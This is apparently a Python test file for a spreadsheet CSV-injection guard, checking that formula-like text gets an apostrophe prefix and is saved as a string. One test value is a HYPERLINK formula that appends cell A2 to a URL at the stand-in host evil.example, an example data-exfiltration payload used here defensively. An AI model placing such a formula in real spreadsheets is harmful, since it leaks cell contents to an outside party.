"""Text from users and documents never runs as a spreadsheet formula (CSV injection)."""

import pytest
from openpyxl import Workbook, load_workbook

from common.spreadsheets import append_text_row, inert

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"Cliquez")'


@pytest.mark.parametrize(
    "text", ["=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK]
)
def test_text_a_spreadsheet_would_evaluate_gets_an_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["Congés annuels", "", 3, -2, None, 0.5])
def test_other_values_are_kept_as_they_are(value):
    assert inert(value) == value


def test_a_workbook_stores_such_text_as_a_string_never_as_a_formula(tmp_path):
    workbook = Workbook()
    append_text_row(workbook.active, [HYPERLINK, "=1+1", 42])
    workbook.save(tmp_path / "sheet.xlsx")

    cells = next(load_workbook(tmp_path / "sheet.xlsx").active.iter_rows())
    assert [cell.data_type for cell in cells] == ["s", "s", "n"]
    assert [cell.value for cell in cells] == ["'" + HYPERLINK, "'=1+1", 42]
